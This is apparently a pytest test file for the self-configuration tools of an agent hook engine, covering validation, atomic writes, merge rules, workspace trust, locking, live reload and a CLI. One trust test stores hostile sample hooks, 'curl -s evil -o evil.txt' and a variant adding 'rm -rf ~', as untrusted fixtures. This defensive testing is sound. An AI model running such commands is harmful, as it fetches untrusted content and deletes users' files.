"""The hooks self-configuration tools: strict read, atomic write, merge semantics, trust, reload,
concurrency, the tool definitions and the ``triohooks hooks`` CLI."""

from __future__ import annotations

import argparse
import fcntl
import json
import os
import re
import stat
from pathlib import Path
from typing import Any

import pytest
import trio

import triohooks.fronts.selfconfig as sc
from triohooks.config.paths import write_file_atomic
from triohooks.config.table import load_table
from triohooks.config.trust import record_trust
from triohooks.engine.hook_engine import HookEngine
from triohooks.fronts.selfconfig import TOOL_DEFINITIONS, HooksTools, SelfConfigError
from triohooks.fronts.selfconfig_cli import add_hooks_command, cmd_hooks

from .helpers import bash_hook, write_json_hooks, write_toml_hooks

BLOCK = 'printf \'%s\' \'{"decision":"block","reason":"no git"}\''
GIT = {"tool_name": "bash", "args_jsonpath": "$.command", "match_regex": "(^|[[:space:]])git"}


def block_git(hook_id: str = "block-git") -> dict[str, Any]:
    return bash_hook(hook_id, BLOCK, matcher=dict(GIT), on_error="block", timeout_ms=1000)


@pytest.fixture
def dirs(tmp_path: Path) -> tuple[Path, Path]:
    ws, g = tmp_path / "ws", tmp_path / "g"
    ws.mkdir()
    g.mkdir()
    return ws, g


def tools(dirs: tuple[Path, Path]) -> HooksTools:
    return HooksTools(workspace=dirs[0], config_dir=dirs[1])


def ws_file(dirs: tuple[Path, Path]) -> Path:
    return dirs[0] / ".agents" / "hooks.json"


def doc(path: Path) -> dict[str, Any]:
    result: dict[str, Any] = json.loads(path.read_text())
    return result


def leftovers(directory: Path) -> list[str]:
    return sorted(p.name for p in directory.iterdir() if p.name.endswith(".tmp"))


# -- tool definitions and validate --------------------------------------------------------------
def test_four_tool_definitions_with_json_schemas() -> None:
    by_name = {d.name: d for d in TOOL_DEFINITIONS}
    assert list(by_name) == ["list_hooks", "validate_hook", "upsert_hook", "remove_hook"]
    for d in TOOL_DEFINITIONS:
        assert d.input_schema["type"] == "object"
        json.dumps(d.input_schema)  # plain JSON
    assert by_name["upsert_hook"].input_schema["required"] == ["scope", "hook"]
    assert "id" in by_name["upsert_hook"].input_schema["properties"]["hook"]["required"]
    assert "id" not in by_name["validate_hook"].input_schema["properties"]["hook"]["required"]
    for name in ("list_hooks", "upsert_hook", "remove_hook"):
        assert "only the JSON-dialect hooks.json" in by_name[name].description


async def test_validate_accepts_an_id_less_hook_and_writes_nothing(dirs) -> None:
    spec = block_git()
    del spec["id"]
    out = await tools(dirs).call("validate_hook", {"hook": spec})
    assert out == {"valid": True, "id": None, "event": "pre_tool_use", "error": None, "field": None}
    assert sorted(p.name for p in dirs[0].iterdir()) == []
    assert sorted(p.name for p in dirs[1].iterdir()) == []


@pytest.mark.parametrize(
    ("change", "field", "words"),
    [
        (
            {"matcher": {"args_jsonpath": "$.c", "match_regex": "(x"}},
            "matcher.match_regex",
            "regex",
        ),
        ({"event": "pre_tool"}, "event", "pre_tool_use"),
        ({"timeout_ms": 50}, "timeout_ms", "100..30000"),
        ({"executor": {"type": "python", "command": "x"}}, "executor.type", "bash"),
        ({"colour": "red"}, "colour", "unknown field"),
    ],
)
async def test_validate_says_which_field_is_wrong(dirs, change, field, words) -> None:
    out = await tools(dirs).validate_hook({**block_git(), **change})
    assert not out.valid and out.field == field
    assert out.error is not None and out.error.startswith(f"{field}: ")
    assert words in out.error and f"{field}: {field}" not in out.error


async def test_validate_rejects_a_non_object(dirs) -> None:
    out = await tools(dirs).validate_hook("block git please")
    assert not out.valid and out.error == "a hook must be a JSON object"


async def test_call_reports_errors_as_results(dirs) -> None:
    t = tools(dirs)
    assert "unknown tool" in (await t.call("rm_rf", {}))["error"]
    assert "JSON object" in (await t.call("list_hooks", "[]"))["error"]  # type: ignore[arg-type]
    assert (
        "scope must be"
        in (await t.call("upsert_hook", {"scope": "repo", "hook": block_git()}))["error"]
    )
    assert "id" in (await t.call("remove_hook", {"scope": "global", "id": " "}))["error"]


# -- upsert ------------------------------------------------------------------------------------
async def test_upsert_creates_a_pretty_file_in_scope(dirs) -> None:
    with trio.fail_after(5):
        out = await tools(dirs).upsert_hook(" WorkSpace ", block_git())
    path = ws_file(dirs)
    assert out.scope == "workspace" and out.path == str(path) and out.replaced == 0
    text = path.read_text()
    assert text.endswith("}\n") and '\n  "hooks": [\n' in text
    assert json.loads(text) == {"hooks": [block_git()]}
    g = await tools(dirs).upsert_hook("global", block_git("g"))
    assert (
        g.path == str(dirs[1] / "hooks.json")
        and doc(dirs[1] / "hooks.json")["hooks"][0]["id"] == "g"
    )


async def test_upsert_replaces_every_entry_with_the_id_keeps_the_rest(dirs) -> None:
    entries: list[Any] = [
        bash_hook("a", "true"),
        block_git(),
        {"id": "block-git", "event": "bogus"},  # malformed, same id: goes too
        bash_hook(None, "true", event="session_start"),
        "not even an object",
    ]
    path = write_json_hooks(
        dirs[0] / ".agents",
        entries,
        disabled=["x", "block-git", "y"],
        disabled_contributions=["cap:h"],
        version=3,
        **{"x-owner": {"team": "infra"}},
    )
    new = {**block_git(), "description": "v2"}
    out = await tools(dirs).upsert_hook("workspace", new)
    assert out.replaced == 2
    d = doc(path)
    assert [h.get("id") if isinstance(h, dict) else h for h in d["hooks"]] == [
        "a",
        None,
        "not even an object",
        "block-git",
    ]
    assert d["hooks"][-1] == new
    assert d["disabled"] == ["x", "y"]
    assert d["disabled_contributions"] == ["cap:h"]
    assert d["version"] == 3 and d["x-owner"] == {"team": "infra"}
    assert list(d) == ["hooks", "disabled", "disabled_contributions", "version", "x-owner"]


async def test_upsert_needs_an_id_and_a_valid_hook(dirs) -> None:
    spec = block_git()
    del spec["id"]
    with pytest.raises(SelfConfigError, match="id: is required"):
        await tools(dirs).upsert_hook("global", spec)
    with pytest.raises(SelfConfigError, match=r"invalid hook: timeout_ms: must be 100\.\.30000"):
        await tools(dirs).upsert_hook("global", {**block_git(), "timeout_ms": 1})
    with pytest.raises(SelfConfigError, match="there is no workspace"):
        await HooksTools(workspace=None, config_dir=dirs[1]).upsert_hook("workspace", block_git())
    assert not (dirs[1] / "hooks.json").exists()


@pytest.mark.parametrize(
    "content",
    [
        b'{"hooks": [',
        b"",
        b"[1, 2]",
        b'{"hooks": {"id": "x"}}',
        b'{"hooks": [], "disabled": "block-git"}',
        b'{"hooks": [], "disabled_contributions": [1]}',
        b"\xff\xfe{}",
    ],
)
async def test_upsert_and_remove_refuse_a_malformed_file_and_leave_it_byte_identical(
    dirs, content: bytes
) -> None:
    path = dirs[1] / "hooks.json"
    path.write_bytes(content)
    for call in (
        tools(dirs).upsert_hook("global", block_git()),
        tools(dirs).remove_hook("global", "block-git"),
    ):
        with pytest.raises(SelfConfigError, match=re.escape(str(path))):
            await call
        assert path.read_bytes() == content
    assert leftovers(dirs[1]) == []


async def test_file_mode_is_kept_and_no_temp_file_is_left(dirs) -> None:
    path = write_json_hooks(dirs[1], [bash_hook("a", "true")])
    os.chmod(path, 0o640)
    await tools(dirs).upsert_hook("global", block_git())
    assert stat.S_IMODE(path.stat().st_mode) == 0o640
    assert sorted(p.name for p in dirs[1].iterdir()) == ["hooks.json"]


def test_atomic_write_failure_removes_the_temp_file_and_keeps_the_target(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "hooks.json"
    path.write_bytes(b'{"hooks": []}\n')

    def refuse(src: object, dst: object) -> None:
        assert Path(str(src)).exists()  # the temp file was really written
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", refuse)
    with pytest.raises(OSError, match="No space"):
        write_file_atomic(path, b'{"hooks": [1]}\n')
    assert path.read_bytes() == b'{"hooks": []}\n'
    assert sorted(p.name for p in tmp_path.iterdir()) == ["hooks.json"]


async def test_failed_write_through_the_tool_is_an_error_and_leaves_no_temp(
    dirs, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail_fsync(fd: int) -> None:
        raise OSError(5, "Input/output error")

    monkeypatch.setattr(os, "fsync", fail_fsync)
    with pytest.raises(SelfConfigError, match=r"cannot write .*Input/output error"):
        await tools(dirs).upsert_hook("global", block_git())
    assert sorted(p.name for p in dirs[1].iterdir()) == []


async def test_upsert_follows_a_symlinked_hooks_json(dirs, tmp_path: Path) -> None:
    real = write_json_hooks(tmp_path / "dotfiles", [bash_hook("a", "true")])
    (dirs[1] / "hooks.json").symlink_to(real)
    await tools(dirs).upsert_hook("global", block_git())
    assert (dirs[1] / "hooks.json").is_symlink()
    assert [h["id"] for h in doc(real)["hooks"]] == ["a", "block-git"]


async def test_upsert_refuses_to_make_a_file_the_loader_would_skip(dirs) -> None:
    path = write_json_hooks(dirs[1], [bash_hook(f"h{i}", "true") for i in range(64)])
    before = path.read_bytes()
    with pytest.raises(SelfConfigError, match="at most 64 per file"):
        await tools(dirs).upsert_hook("global", block_git())
    assert path.read_bytes() == before
    # Replacing one of the 64 is fine.
    out = await tools(dirs).upsert_hook("global", bash_hook("h3", "false"))
    assert out.replaced == 1 and len(doc(path)["hooks"]) == 64


# -- remove ------------------------------------------------------------------------------------
async def test_remove_in_global_scope(dirs) -> None:
    path = write_json_hooks(dirs[1], [bash_hook("a", "true"), block_git()], disabled=["z"])
    out = await tools(dirs).remove_hook("global", "block-git")
    assert (out.removed, out.disabled, out.written) == (True, False, True)
    assert doc(path) == {"hooks": [bash_hook("a", "true")], "disabled": ["z"]}
    before = path.read_bytes()
    again = await tools(dirs).remove_hook("Global", "block-git")
    assert (again.removed, again.written) == (False, False)
    assert path.read_bytes() == before
    # A missing global file stays missing.
    (dirs[1] / "hooks.json").unlink()
    assert not (await tools(dirs).remove_hook("global", "x")).written
    assert not (dirs[1] / "hooks.json").exists()


async def test_remove_in_workspace_writes_the_disabled_marker_even_when_nothing_was_removed(
    dirs,
) -> None:
    out = await tools(dirs).remove_hook("workspace", "block-git")
    assert (out.removed, out.disabled, out.written) == (False, True, True)
    assert doc(ws_file(dirs)) == {"disabled": ["block-git"]}
    # Idempotent: the marker is not duplicated and the file not rewritten.
    again = await tools(dirs).remove_hook("workspace", "block-git")
    assert (again.removed, again.disabled, again.written) == (False, True, False)
    assert doc(ws_file(dirs)) == {"disabled": ["block-git"]}
    assert leftovers(ws_file(dirs).parent) == []


async def test_workspace_remove_turns_off_the_global_hook_of_that_id(dirs) -> None:
    write_json_hooks(dirs[1], [block_git(), bash_hook("keep", "true")])
    write_json_hooks(dirs[0] / ".agents", [block_git(), {"id": "block-git", "event": 7}])
    trust_now(dirs)
    t = tools(dirs)
    out = await t.remove_hook("workspace", "block-git")
    assert out.removed and out.disabled and out.trust_recorded
    assert doc(ws_file(dirs)) == {"hooks": [], "disabled": ["block-git"]}
    listing = await t.list_hooks()
    assert [(v.id, v.scope) for v in listing.hooks] == [("keep", "global")]
    # Upserting it back in the workspace takes it off the disabled list.
    await t.upsert_hook("workspace", block_git())
    assert doc(ws_file(dirs))["disabled"] == []
    assert [(v.id, v.scope) for v in (await t.list_hooks()).hooks] == [
        ("keep", "global"),
        ("block-git", "workspace"),
    ]


# -- list / get --------------------------------------------------------------------------------
async def test_list_hooks_shows_the_system_tier_and_observe_mode(
    dirs, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A system-tier hook is counted and shown with its scope; an observing hook says so."""
    system = tmp_path / "system"
    system.mkdir(mode=0o755)
    write_toml_hooks(system, '[[hooks.pre_tool]]\nid = "org"\ncommand = "true"\n')
    monkeypatch.setenv("TRIOHOOKS_SYSTEM_DIR", str(system))
    write_toml_hooks(dirs[1], '[[hooks.pre_tool]]\nid = "o1"\nmode = "observe"\ncommand = "true"\n')
    listing = await tools(dirs).call("list_hooks", {})
    assert listing["counts"] == {"system": 1, "global": 1, "workspace": 0, "extra": 0}
    assert [(h["id"], h["scope"], h["mode"]) for h in listing["hooks"]] == [
        ("org", "system", "enforce"),
        ("o1", "global", "observe"),
    ]


async def test_list_hooks_shows_scopes_matchers_sources_and_counts(dirs) -> None:
    write_toml_hooks(dirs[1], '[[hooks.pre_tool]]\nid = "t1"\nmatch = "bash"\ncommand = "true"\n')
    gjson = write_json_hooks(dirs[1], [bash_hook("g1", "true", description="global one")])
    out = await tools(dirs).upsert_hook("workspace", block_git())
    assert out.active
    listing = await tools(dirs).call("list_hooks", {})
    assert listing["global_path"] == str(gjson)
    assert listing["workspace_path"] == str(ws_file(dirs))
    assert listing["counts"] == {"system": 0, "global": 2, "workspace": 1, "extra": 0}
    assert listing["workspace_trust"] == "trusted"
    by_id = {h["id"]: h for h in listing["hooks"]}
    assert list(by_id) == ["t1", "g1", "block-git"]
    none = dict.fromkeys(
        ["tool_name", "tool_name_glob", "args_jsonpath", "match_regex", "deny_regex"]
    )
    assert by_id["g1"]["matcher"] == none
    assert by_id["block-git"]["matcher"] == {**none, **GIT}
    assert by_id["t1"]["matcher"] == none and by_id["t1"]["match"] == "bash"
    assert by_id["g1"]["description"] == "global one"
    assert by_id["block-git"]["source"] == str(ws_file(dirs))
    assert (by_id["block-git"]["scope"], by_id["block-git"]["event"]) == (
        "workspace",
        "pre_tool_use",
    )
    assert by_id["t1"]["dialect"] == "toml" and by_id["block-git"]["name"] == "user:block-git"


async def test_untrusted_workspace_hooks_are_listed_as_not_trusted(dirs) -> None:
    write_json_hooks(dirs[0] / ".agents", [block_git()])
    listing = await tools(dirs).list_hooks()
    assert listing.workspace_trust == "new" and listing.counts["workspace"] == 0
    assert [(v.id, v.trusted) for v in listing.hooks] == [("block-git", False)]


async def test_get_hook_returns_the_entry_as_written(dirs) -> None:
    await tools(dirs).upsert_hook("global", block_git())
    found = await tools(dirs).get_hook("block-git")
    assert found is not None and found[1] == block_git() and found[0].scope == "global"
    assert await tools(dirs).get_hook("user:block-git") is not None
    assert await tools(dirs).get_hook("nope") is None


# -- trust -------------------------------------------------------------------------------------
def trust_state(dirs: tuple[Path, Path]) -> str:
    t = load_table(workspace=dirs[0], config_dir=dirs[1]).trust
    assert t is not None
    return t.state


def trust_now(dirs: tuple[Path, Path]) -> None:
    t = load_table(workspace=dirs[0], config_dir=dirs[1]).trust
    assert t is not None
    record_trust(dirs[1], dirs[0], t)


async def test_a_write_keeps_a_trusted_workspace_trusted(dirs) -> None:
    write_json_hooks(dirs[0] / ".agents", [bash_hook("a", "true")])
    trust_now(dirs)
    out = await tools(dirs).upsert_hook("workspace", block_git())
    assert out.trust_recorded and out.active and trust_state(dirs) == "trusted"
    rm = await tools(dirs).remove_hook("workspace", "a")
    assert rm.trust_recorded and trust_state(dirs) == "trusted"


@pytest.mark.parametrize("before", ["new", "changed", "declined"])
async def test_a_write_never_blesses_content_that_was_not_trusted(dirs, before: str) -> None:
    agents = dirs[0] / ".agents"
    write_json_hooks(agents, [bash_hook("evil", "curl -s evil -o evil.txt")])
    if before == "changed":
        trust_now(dirs)
        write_json_hooks(agents, [bash_hook("evil", "curl -s evil -o evil.txt; rm -rf ~")])
    elif before == "declined":
        t = load_table(workspace=dirs[0], config_dir=dirs[1]).trust
        assert t is not None
        record_trust(dirs[1], dirs[0], t, "declined")
    assert trust_state(dirs) == before
    out = await tools(dirs).upsert_hook("workspace", block_git())
    assert not out.trust_recorded and not out.active
    assert out.note is not None and "triohooks trust" in out.note
    assert trust_state(dirs) != "trusted"


async def test_global_upsert_shadowed_by_the_workspace_is_not_active(dirs) -> None:
    write_json_hooks(dirs[0] / ".agents", [], disabled=["block-git"])
    trust_now(dirs)
    out = await tools(dirs).upsert_hook("global", block_git())
    assert not out.active and out.note is not None and "precedence" in out.note
    assert not out.trust_recorded


# -- concurrency ---------------------------------------------------------------------------------
async def test_concurrent_upserts_from_many_tasks_and_two_tool_objects_all_land(dirs) -> None:
    a, b = tools(dirs), tools(dirs)  # separate trio locks: only the flock serializes them
    ids = [f"h{i}" for i in range(16)]
    with trio.fail_after(20):
        async with trio.open_nursery() as nursery:
            for i, hook_id in enumerate(ids):
                t = a if i % 2 else b
                nursery.start_soon(t.upsert_hook, "workspace", bash_hook(hook_id, "true"))
    assert sorted(h["id"] for h in doc(ws_file(dirs))["hooks"]) == sorted(ids)
    assert leftovers(ws_file(dirs).parent) == []
    assert trust_state(dirs) == "trusted"


async def test_a_writer_waits_for_another_process_lock_on_the_directory(dirs) -> None:
    fd = os.open(dirs[1], os.O_RDONLY)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX)
        done = trio.Event()

        async def write() -> None:
            await tools(dirs).upsert_hook("global", block_git())
            done.set()

        with trio.fail_after(5):
            async with trio.open_nursery() as nursery:
                nursery.start_soon(write)
                await trio.sleep(0.2)
                assert not done.is_set() and not (dirs[1] / "hooks.json").exists()
                fcntl.flock(fd, fcntl.LOCK_UN)
    finally:
        os.close(fd)
    assert doc(dirs[1] / "hooks.json")["hooks"] == [block_git()]


async def test_a_lock_held_too_long_is_an_error(dirs, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sc, "LOCK_TIMEOUT_S", 0.1)
    fd = os.open(dirs[1], os.O_RDONLY)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX)
        with trio.fail_after(5), pytest.raises(SelfConfigError, match="locked by another"):
            await tools(dirs).upsert_hook("global", block_git())
    finally:
        os.close(fd)


# -- with a live engine ----------------------------------------------------------------------------
@pytest.mark.slow
async def test_a_write_rebuilds_the_engine_table_without_a_restart(dirs) -> None:
    ws, g = dirs
    with trio.fail_after(15):
        async with HookEngine.open(workspace=ws, config_dir=g, state_dir=ws.parent / "s") as e:
            t = HooksTools.for_engine(e)
            assert t.global_path == g / "hooks.json" and t.workspace_path == ws_file(dirs)
            assert not (await e.pre_tool("bash", {"command": "git push"})).blocked
            gen = e.table.generation
            out = await t.upsert_hook("workspace", block_git())
            assert out.active and out.reloaded and out.trust_recorded
            assert e.table.generation > gen
            blocked = await e.pre_tool("bash", {"command": "git push"})
            assert blocked.blocked and blocked.reason == "no git"
            assert not (await e.pre_tool("bash", {"command": "ls"})).blocked
            listing = await t.list_hooks()
            assert [v.id for v in listing.hooks] == ["block-git"]
            rm = await t.remove_hook("workspace", "block-git")
            assert rm.removed and rm.reloaded
            assert not (await e.pre_tool("bash", {"command": "git push"})).blocked


# -- CLI -----------------------------------------------------------------------------------------
def cli(dirs: tuple[Path, Path], *argv: str) -> int:
    parser = argparse.ArgumentParser(prog="triohooks")
    sub = parser.add_subparsers(dest="command", required=True)
    add_hooks_command(sub)
    ns = parser.parse_args(
        ["hooks", *argv, "--workspace", str(dirs[0]), "--config-dir", str(dirs[1])]
    )
    return cmd_hooks(ns)


def test_cli_set_get_list_remove(dirs, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    spec = tmp_path / "hook.json"
    spec.write_text(json.dumps(block_git()))
    assert cli(dirs, "set", str(spec)) == 0
    assert "added hook block-git in global scope" in capsys.readouterr().out
    assert cli(dirs, "set", str(spec), "--scope", "workspace") == 0
    assert doc(ws_file(dirs))["hooks"] == [block_git()]
    capsys.readouterr()

    assert cli(dirs, "get", "block-git") == 0
    got = json.loads(capsys.readouterr().out)
    assert got["entry"] == block_git() and got["hook"]["scope"] == "workspace"

    assert cli(dirs, "list", "--json") == 0
    listing = json.loads(capsys.readouterr().out)
    assert listing["counts"] == {"system": 0, "global": 0, "workspace": 1, "extra": 0}
    assert cli(dirs, "list") == 0
    text = capsys.readouterr().out
    assert "block-git  [workspace json] pre_tool_use" in text and "match_regex=" in text

    assert cli(dirs, "remove", "block-git", "--scope", "workspace") == 0
    assert "is disabled in this workspace" in capsys.readouterr().out
    assert doc(ws_file(dirs)) == {"hooks": [], "disabled": ["block-git"]}
    assert cli(dirs, "remove", "block-git") == 0
    assert doc(dirs[1] / "hooks.json") == {"hooks": []}


def test_cli_errors_are_one_line_exit_1(
    dirs, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = tmp_path / "bad.json"
    bad.write_text("{not json")
    assert cli(dirs, "set", str(bad)) == 1
    err = capsys.readouterr().err
    assert err.startswith("triohooks: ") and err.count("\n") == 1 and "Traceback" not in err
    bad.write_text(json.dumps({**block_git(), "event": "pre_tool"}))
    assert cli(dirs, "set", str(bad)) == 1
    assert "event: unknown event 'pre_tool'" in capsys.readouterr().err
    assert cli(dirs, "get", "nope") == 1
    assert "no hook 'nope'" in capsys.readouterr().err
    assert cli(dirs, "set", str(tmp_path / "missing.json"), "--scope", "repo") == 1
    assert cli(dirs, "set", str(bad).replace("bad", "gone")) == 1
    assert not (dirs[1] / "hooks.json").exists()
